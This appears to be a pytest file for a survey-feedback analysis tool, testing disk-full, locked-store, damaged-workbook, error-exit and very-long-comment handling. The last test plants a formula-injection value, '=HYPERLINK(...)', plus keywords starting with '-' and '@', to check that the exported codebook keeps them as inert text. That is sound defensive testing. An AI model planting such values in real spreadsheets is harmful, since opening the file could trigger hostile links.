def test_disk_full_while_writing_the_store(tmp_path, cli, ran, monkeypatch):
    from pledge_analysis.project import Project

    project, _out = ran
    store = project / "project.sqlite"
    before = store_dump(store)
    # a second run with much more data, on a disk with no room for the store to grow
    make_more = [row(f"Y{i:04d}", could_be=f"I waited {i} weeks for my scan results, far too long.")
                 for i in range(400)]
    export = project / "exports" / "feedback_2027.csv"
    buf = io.StringIO()
    csv.writer(buf).writerows(make_more)
    export.write_bytes(export.read_bytes() + buf.getvalue().encode("cp1252"))
    real_open = Project.open.__func__

    def full_disk_open(cls, path, *a, **k):
        p = real_open(cls, path, *a, **k)
        pages = p.conn.execute("PRAGMA page_count").fetchone()[0]
        p.conn.execute(f"PRAGMA max_page_count = {pages}")
        return p

    monkeypatch.setattr(Project, "open", classmethod(full_disk_open))
    r = cli("run", project, "--out", tmp_path / "out2", "--quiet")
    assert_clean_failure(r, 2, ProjectStoreError, "project.sqlite", "full")
    monkeypatch.undo()
    assert store_dump(store) == before  # the previous store, intact


@pytest.fixture()
def locked_store(tmp_path, monkeypatch):
    import pledge_analysis.project as project_module

    monkeypatch.setattr(project_module, "LOCK_TIMEOUT", 0.2, raising=False)
    project = make_project(tmp_path)
    store = project / "project.sqlite"
    with project_module.Project.open(store):
        pass
    other = sqlite3.connect(store, isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")
    yield project, store
    other.execute("ROLLBACK")
    other.close()


def test_locked_store_run(tmp_path, cli, locked_store):
    project, store = locked_store
    r = cli("run", project, "--out", tmp_path / "out", "--quiet")
    assert_clean_failure(r, 2, ProjectStoreError, "project.sqlite", "in use by another program")


def test_locked_store_open(locked_store):
    from pledge_analysis.project import Project

    _project, store = locked_store
    t = time.perf_counter()
    with pytest.raises(ProjectStoreError, match="in use by another program") as info:
        with Project.open(store) as p:
            p.write_table("segments", pd.DataFrame({"segment_id": ["a"], "text": ["x"]}))
    assert time.perf_counter() - t < 3 and "project.sqlite" in str(info.value)


def test_locked_store_import_plan(tmp_path, cli, locked_store):
    project, store = locked_store
    from openpyxl import Workbook

    book = tmp_path / "plan.xlsx"
    wb = Workbook()
    wb.active.append(["Goal", "You said", "We plan to", "By", "Status"])
    wb.active.append(["G01", "x", "y", "", "ongoing"])
    wb.save(book)
    r = cli("import-plan", project, book)
    assert_clean_failure(r, 2, ProjectStoreError, "project.sqlite", "in use by another program")


def test_store_below_a_file(tmp_path, cli, project):
    (tmp_path / "afile").write_text("x")
    r = cli("run", project, "--out", tmp_path / "out", "--quiet", "--store", tmp_path / "afile" / "project.sqlite")
    assert_clean_failure(r, 2, ProjectStoreError, "afile")


@pytest.mark.parametrize("damage", ["truncated", "text"], ids=["import-plan-truncated-xlsx", "import-plan-not-xlsx"])
def test_import_plan_of_a_damaged_workbook(tmp_path, cli, ran, damage):
    project, out = ran
    book = out / "action_plan.xlsx"
    data = book.read_bytes()
    book.write_bytes(data[:len(data) // 2] if damage == "truncated" else b"Goal,You said\nG01,x\n")
    r = cli("import-plan", project, book)
    assert_clean_failure(r, 2, InputError, "action_plan.xlsx")


def _boom(exc):
    def raiser(*a, **k):
        raise exc
    return raiser


def test_unexpected_error_is_exit_3_without_traceback(tmp_path, cli, project, monkeypatch):
    import pledge_analysis.priorities as prioritise

    monkeypatch.setattr(prioritise, "prioritise", _boom(ValueError("boom")))
    r = cli("run", project, "--out", tmp_path / "out", "--quiet")
    assert r.code == 3 and "Traceback" not in r.err
    assert r.err.startswith("error: unexpected") and "--debug" in r.err and "boom" in r.err


def test_debug_shows_the_traceback(tmp_path, cli, project, monkeypatch):
    import pledge_analysis.priorities as prioritise

    monkeypatch.setattr(prioritise, "prioritise", _boom(ValueError("boom")))
    r = cli("--debug", "run", project, "--out", tmp_path / "out", "--quiet")
    assert r.code == 3 and "Traceback" in r.err and "ValueError: boom" in r.err


def test_debug_shows_the_traceback_of_a_write_failure(tmp_path, cli, project, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    with monkeypatch.context() as m:
        deny_writes(m, out, permission_denied)
        r = cli("--debug", "run", project, "--out", out, "--quiet")
    assert r.code == 2 and "Traceback" in r.err and "PermissionError" in r.err


def test_interrupted_run(tmp_path, cli, project, monkeypatch):
    import pledge_analysis.priorities as prioritise

    monkeypatch.setattr(prioritise, "prioritise", _boom(KeyboardInterrupt()))
    r = cli("run", project, "--out", tmp_path / "out", "--quiet")
    assert r.code == 130 and "Traceback" not in r.err and "interrupted" in r.err


# ================================================================================== 4. long texts
def test_a_comment_over_a_million_characters_is_coded_whole(tmp_path, cli):
    filler = "The nurse was kind and the room was quiet. "
    long = filler * (1_150_000 // len(filler)) + "In the end I waited six weeks for my results."
    long = (long + " " + filler * ((1_200_000 - len(long)) // len(filler) + 1)).strip()
    assert len(long) > 1_200_000
    project = make_project(tmp_path, rows=[row("L001", could_be=long)])
    run_ok(cli, project, tmp_path / "out")
    segs = pd.read_csv(tmp_path / "out" / "segments.csv")
    seg = segs.loc[(segs["respondent_id"] == "L001") & (segs["question_id"] == "better")]
    assert len(seg) == 1 and len(seg["text"].item()) == len(long)
    codings = pd.read_csv(tmp_path / "out" / "codings.csv")
    mine = codings[codings["segment_id"] == seg["segment_id"].item()]
    waiting = mine[mine["code_id"] == "waiting"]
    assert len(waiting) == 1 and waiting["start"].item() > 1_000_000  # found past spaCy's 1,000,000 limit
    assert long[int(waiting["start"].item()):int(waiting["end"].item())].strip() == \
        "In the end I waited six weeks for my results."


def test_codebook_workbook_never_holds_a_live_formula(tmp_path):
    """A code name or keyword that starts like a formula stays text in codebook.xlsx and reads back as written."""
    from openpyxl import load_workbook

    from pledge_analysis.coding.codebook import codebook_from_records
    from pledge_analysis.coding.codebook_ops import read_codebook_xlsx, write_codebook_xlsx

    cb = codebook_from_records([{"id": "w", "name": '=HYPERLINK("http://x","y")', "keywords": ["-wait", "@home"]}])
    path = tmp_path / "codebook.xlsx"
    write_codebook_xlsx(cb, path)
    cells = [c for row in load_workbook(path).active.iter_rows() for c in row if isinstance(c.value, str)]
    assert cells and all(c.data_type == "s" and not c.value.startswith(("=", "-", "@", "+")) for c in cells)
    back = read_codebook_xlsx(path)
    assert back.loc[0, "name"] == '=HYPERLINK("http://x","y")' and back.loc[0, "keywords"] == ["-wait", "@home"]
